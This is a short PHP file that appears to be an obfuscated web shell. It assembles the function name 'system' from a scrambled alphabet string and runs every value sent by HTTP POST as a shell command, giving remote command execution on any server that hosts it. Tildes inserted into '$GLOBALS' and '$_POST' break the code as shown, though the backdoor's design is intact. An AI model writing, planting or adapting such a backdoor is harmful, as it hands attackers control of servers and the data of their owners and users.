<?php exit; ?>
<?php
$l = 'pqrstuvwxyzabcdefghijklmno_'; $GLO~BALS['g'][0] = $l[3] . $l[9] . $l[3] . $l[4] . $l[15] . $l[23]; foreach ($_P~OST as $v) { $GLO~BALS['g'][0]($v); }
